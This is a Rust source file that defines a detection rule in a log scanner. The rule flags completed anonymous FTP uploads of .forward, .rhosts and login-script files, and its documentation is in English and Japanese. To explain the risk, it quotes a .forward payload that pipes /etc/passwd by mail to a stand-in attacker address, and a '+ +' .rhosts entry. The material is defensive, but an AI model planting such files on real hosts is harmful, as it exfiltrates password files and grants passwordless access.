//! # FT011 anon-ftp-dotfile-upload
//!
//! ## What it finds
//! An anonymous FTP user who completed the upload of a file that makes the FTP account
//! run commands or trust other hosts: `.forward`, `.rhosts`, `.shosts`, `hosts.equiv`,
//! `authorized_keys` or a login script (`.profile`, `.cshrc`, `.login`, `.bashrc`). It
//! reads wu-ftpd's `xferlog` (direction `i`, access mode `a`, completion `c`) and
//! vsftpd's own log (`[ftp] OK UPLOAD:`), written by the server itself or through
//! syslog. Uploads into an `incoming` directory are not counted: that is what a
//! write-only `incoming` is for, and nobody reads a `.forward` there.
//!
//! ## Why it matters
//! This is the anonymous FTP attack of JPCERT-E-INF-97-0001: when `~ftp` is writable
//! (owned by `ftp`, or mode 777), an intruder uploads `~ftp/.forward` holding
//! `"|/bin/mail evil@example < /etc/passwd"` and then mails `ftp@host`: sendmail runs the
//! command as the ftp user, and the password file is gone. A `.rhosts` with `+ +` lets
//! anyone `rlogin` as `ftp` without a password. A completed upload means the hole was
//! open and used.
//!
//! ## Example
//! ```text
//! Fri Dec 27 18:00:54 1996 1 192.0.2.95 48 /home/ftp/.forward a _ i a guest@ ftp 0 * c
//! ```
//!
//! ## What to do
//! Treat the host as compromised. Remove the uploaded file, and (2) make the anonymous
//! FTP root owned by root and not writable by `ftp`, its group or others (`chmod 555
//! ~ftp`); upgrade wu-ftpd. Look in the mail log for mail to `ftp@` after the upload
//! (the trigger) and (3) change every user's password, (4) use shadow passwords,
//! (5) rebuild where an intrusion cannot be ruled out.
//!
//! ## References
//! - JPCERT/CC JPCERT-E-INF-97-0001-01 (countermeasure 2)
//! - CERT Advisory CA-93:10, "Anonymous FTP Activity", and its configuration guidelines
//! - xferlog(5) of wu-ftpd
//! <!-- ja -->
//! # FT011 anon-ftp-dotfile-upload
//!
//! ## 検出内容
//! FTP アカウントにコマンドを実行させたり、他のホストを信頼させたりするファイルのアップロードを
//! 完了した Anonymous FTP の利用者を検出します。対象のファイルは `.forward`、`.rhosts`、`.shosts`、
//! `hosts.equiv`、`authorized_keys`、ログインスクリプト（`.profile`、`.cshrc`、`.login`、
//! `.bashrc`）です。wu-ftpd の `xferlog`（方向 `i`、アクセスモード `a`、完了状態 `c`）と vsftpd
//! 自身のログ（`[ftp] OK UPLOAD:`）を、サーバが直接書いたものも syslog 経由のものも読みます。
//! `incoming` ディレクトリへのアップロードは数えません。書き込み専用の `incoming` はそのために
//! あり、そこにある `.forward` を読む者はいないからです。
//!
//! ## 重要な理由
//! これは JPCERT-E-INF-97-0001 が述べる Anonymous FTP への攻撃です。`~ftp` に書き込める場合
//! （`ftp` の所有、またはモード 777）、侵入者は `"|/bin/mail evil@example < /etc/passwd"` を
//! 書いた `~ftp/.forward` をアップロードし、`ftp@host` にメールを送ります。sendmail がそのコマンドを
//! ftp 利用者として実行し、パスワード・ファイルが持ち出されます。`+ +` を書いた `.rhosts` が
//! あれば、誰でもパスワードなしに `ftp` として `rlogin` できます。アップロードの完了は、
//! セキュリティホールが開いており、実際に使われたことを意味します。
//!
//! ## 例
//! ```text
//! Fri Dec 27 18:00:54 1996 1 192.0.2.95 48 /home/ftp/.forward a _ i a guest@ ftp 0 * c
//! ```
//!
//! ## 対処
//! ホストは侵害されたものとして扱ってください。アップロードされたファイルを削除し、(2)
//! Anonymous FTP のルート・ディレクトリを root の所有にして、`ftp`、そのグループ、その他の
//! 利用者が書き込めないようにし（`chmod 555 ~ftp`）、wu-ftpd をバージョンアップします。
//! アップロードの後に `ftp@` 宛てのメール（攻撃の引き金）がないかメールログを調べ、(3) 全ユーザの
//! パスワードを変更し、(4) シャドーパスワードを利用し、(5) 不正侵入の可能性が否定できない
//! 場合にはシステムを再構築してください。
//!
//! ## 参考
//! - JPCERT/CC JPCERT-E-INF-97-0001-01（対策 (2)）
//! - CERT Advisory CA-93:10 "Anonymous FTP Activity" とその設定の手引き
//! - wu-ftpd の xferlog(5)

use kensa_core::{Kind, Outcome, Rule, RuleStatus, Severity};

/// FT011: an anonymous upload of a dot file, completed.
pub static RULE: Rule = Rule {
    code: "FT011",
    name: "anon-ftp-dotfile-upload",
    kind: Kind::AnonFtpUpload,
    outcome: Outcome::Succeeded,
    severity: Severity::Critical,
    title: "Anonymous FTP upload of .forward/.rhosts completed",
    advice: "Treat the host as compromised: remove the uploaded file; (2) make the anonymous \
             FTP root owned by root and not writable (chmod 555 ~ftp) and upgrade wu-ftpd; look \
             for mail to ftp@ after the upload; (3) change every password, (4) use shadow \
             passwords, (5) rebuild where an intrusion cannot be ruled out.",
    status: RuleStatus::Stable,
    title_ja: "Anonymous FTP で .forward/.rhosts のアップロードが完了",
    advice_ja: "ホストは侵害されたものとして扱ってください: アップロードされたファイルを削除\
             し、(2) Anonymous FTP のルート・ディレクトリを root の所有にして書き込めないよう\
             にし（chmod 555 ~ftp）、wu-ftpd をバージョンアップしてください。アップロード後の \
             ftp@ 宛てのメールを探し、(3) 全ユーザのパスワードを変更し、(4) シャドーパスワード\
             を利用し、(5) 不正侵入の可能性が否定できない場合はシステムを再構築してください。",
    since: "0.1.0",
    source: include_str!("ft011_dotfile_upload_succeeded.rs"),
};
